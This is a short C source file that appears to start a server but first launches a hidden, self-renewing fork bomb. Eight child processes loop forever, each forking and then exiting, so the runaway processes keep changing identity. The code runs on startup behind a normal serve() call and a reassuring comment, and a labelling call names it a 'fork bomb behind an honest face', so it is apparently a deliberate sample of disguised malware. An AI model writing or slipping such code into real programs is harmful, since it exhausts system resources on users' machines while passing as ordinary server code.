/* Listens as it should while its children fork, exit and fork again. */
#include "serve.h"

int main(int argc, char **argv)
{
    tried("fork bomb behind an honest face");
    for (int i = 0; i < 8; i++)
        if (fork() == 0)
            for (;;)
                if (fork() > 0)
                    _exit(0);
    return serve(argc, argv);
}
